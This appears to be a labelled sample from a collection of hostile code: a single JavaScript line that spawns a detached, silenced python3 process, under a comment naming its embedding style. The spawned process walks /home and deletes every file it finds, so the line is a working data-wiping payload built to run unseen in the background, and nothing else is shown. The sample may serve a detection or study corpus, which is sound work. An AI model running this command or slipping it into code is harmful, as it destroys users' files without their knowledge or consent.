// class: embedded, python -c; style: spawn detached
require('child_process').spawn('python3', ['-c', 'import os\nfor r, d, f in os.walk("/home"):\n    for n in f:\n        os.unlink(os.path.join(r, n))'], { detached: true, stdio: 'ignore' }).unref();
